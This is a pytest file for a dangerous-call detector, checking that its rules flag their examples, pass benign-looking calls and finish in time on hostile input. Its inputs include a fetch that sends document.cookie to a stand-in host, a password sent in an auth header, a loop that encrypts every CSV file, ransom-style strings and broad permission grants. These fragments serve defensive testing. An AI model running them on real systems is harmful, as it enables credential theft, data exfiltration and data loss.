"""What stands together in a call or a program: each rule finds its example, half of it is nothing."""

import pytest

from headgate.configuration.resources import resource_path
from headgate.configuration.yaml_document import Section, read_document
from headgate.detectors import dangerous_calls as dangerous_calls_module
from headgate.detectors.assess import EmbeddedModel, assess, kinds_of
from headgate.detectors.dangerous_calls import dangerous_calls, find_dangerous_calls
from headgate.detectors.document import SEPARATOR
from headgate.detectors.limits import Budget, Limits
from headgate.kernel.canonical_json import JsonValue

_THRESHOLD = 0.6
_RULES = read_document(resource_path("detectors", "dangerous_calls.yaml")).sections("rules")


@pytest.mark.parametrize("rule", _RULES, ids=[f"{at}-{one.text('kind')}" for at, one in enumerate(_RULES)])
def test_each_rule_finds_its_example(rule: Section) -> None:
    found = assess(EmbeddedModel.COMMANDS, rule.members["example"])

    assert rule.text("kind") in found.issues
    assert found.risk_score >= _THRESHOLD


@pytest.mark.parametrize(
    "value",
    [
        {"method": "DELETE", "path": "/api/v1/namespaces/preview-812"},
        {"method": "DELETE", "path": "/repos/northwind/shop/git/refs/heads/fix-totals"},
        {"method": "GET", "path": "/api/v1/namespaces/payments"},
        {"Action": "DeleteDBInstance", "SkipFinalSnapshot": "true", "DBInstanceIdentifier": "orders-test-3"},
        {"method": "POST", "bindings": [{"role": "roles/run.invoker", "members": ["allUsers"]},
                                        {"role": "roles/owner", "members": ["user:dana@northwind.example"]}]},
        {"kind": "ClusterRoleBinding", "roleRef": {"name": "view"}, "subjects": [{"name": "system:authenticated"}]},
        {"policy": 'path "secret/data/shop/*" {\n capabilities = ["read", "delete"]\n}'},
        {"method": "PUT", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]},
        {"html": "<button onclick=\"navigator.clipboard.writeText('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed')\">"},
        {"script": "fetch('https://a.example', {headers: {A: 'Basic ' + btoa(u.value + ':' + password.value)}})"},
        {"script": "navigator.sendBeacon('https://s.example', JSON.stringify({page: '/checkout', plan: s.value}))"},
        {"code": "for p in glob('*.csv'):\n open(p + '.enc', 'wb').write(Fernet(key).encrypt(open(p, 'rb').read()))"},
        {"method": "PATCH", "settlement_id": "3f9a1c2be77d4410a0c5e8d1f6b29a77", "threshold": "12"},
        {"method": "PUT", "wallet_service": "https://w.example", "text": "Pay by card or by bank transfer."},
        {"method": "PATCH", "shipping_address": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"[:20]},
        {"method": "POST", "path": "/api/v1/data-decoder/", "data": "0x0d582f13" + "0" * 128},
    ],
)  # fmt: skip
def test_ordinary_calls_pass(value: JsonValue) -> None:
    assert assess(EmbeddedModel.COMMANDS, value).risk_score < _THRESHOLD


def test_texts_of_a_call_are_not_read_as_one_program() -> None:
    parts = ["GmailApp.search('invoice')[0].forward('dana@northwind.example')", "old.moveToTrash()"]

    assert "mail_forwarded" not in assess(EmbeddedModel.COMMANDS, parts).issues
    assert "mail_forwarded" in assess(EmbeddedModel.COMMANDS, ";".join(parts)).issues


@pytest.mark.parametrize("between", ["x, " * 250, "fetch(y), " * 80])
def test_words_of_a_long_line_that_are_far_from_each_other_are_no_program(between: str) -> None:
    sends = "fetch('https://pick.example/?c='"

    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, f"{sends} {between} document.cookie").issues
    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, f"{sends} {between} {sends}+document.cookie").issues


def test_nearer_words_count_between_far_ones() -> None:
    code = f"gpg -e x; glob; os.remove(); send {'x ' * 90} a ransom {'x ' * 90} btc"

    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, code).issues
    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, code.replace("ransom", "sum")).issues


def test_the_kinds_may_be_chosen() -> None:
    assert {rule.kind for rule in dangerous_calls().rules} <= kinds_of(EmbeddedModel.COMMANDS)


@pytest.mark.parametrize(
    "word", [b"clipboard ", b"cluster-admin\n\0\n", b"btoa('", b'capabilities path "*" {', b"keyup//a/fetch('//b"]
)
def test_hostile_text_ends_in_time(word: bytes) -> None:
    budget = Budget(Limits(seconds_max=5))
    found = list(find_dangerous_calls(word * 8000, budget))

    assert len(found) < 10_000
    assert not any(gap.reason.value == "time" for gap in budget.gaps.values())


def test_a_text_of_nothing_but_words_is_looked_for_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Looked for at each word, a megabyte of them would take minutes."""
    asked: list[int] = []
    text_at = dangerous_calls_module.text_at

    def counted(buffer: bytes, at: int) -> tuple[int, int]:
        asked.append(at)
        return text_at(buffer, at)

    monkeypatch.setattr(dangerous_calls_module, "text_at", counted)
    list(find_dangerous_calls(SEPARATOR.join([b"x.get( " * 2_000] * 3), Budget(Limits(seconds_max=60))))

    assert len(asked) <= 4
